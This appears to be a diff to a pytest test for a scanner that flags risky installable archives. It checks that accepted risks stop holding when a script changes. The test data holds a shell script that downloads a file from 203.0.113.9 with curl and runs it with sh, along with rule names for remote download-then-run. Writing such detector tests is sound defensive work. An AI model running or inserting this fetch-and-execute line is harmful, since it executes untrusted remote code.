@@ -110,7 +110,8 @@ def test_an_archive_whose_script_changes_is_not_what_was_accepted(nights: Nights
 
 def test_code_that_fetches_from_elsewhere_is_not_what_was_accepted(nights: Nights) -> None:
     script, rule = b"#!/bin/sh\nU=http://203.0.113.9/a\ncurl -s $U -o a\nsh a\n", "remote.fetched-run"
-    before = prepare(bread(nights, {"run.sh": script}), ["warning"], [rule]).installed
+    accepted = [rule, "remote.download-then-run"]
+    before = prepare(bread(nights, {"run.sh": script}), ["warning"], accepted).installed
     prepare(bread(nights, {"run.sh": script, "a.md": b"a\n"}), ["warning"], [], before)
     with pytest.raises(WrongInput, match=rf"not what was accepted.*--accept-risk {rule}$"):
         prepare(bread(nights, {"run.sh": script.replace(b"113.9", b"113.8")}), ["warning"], [], before)
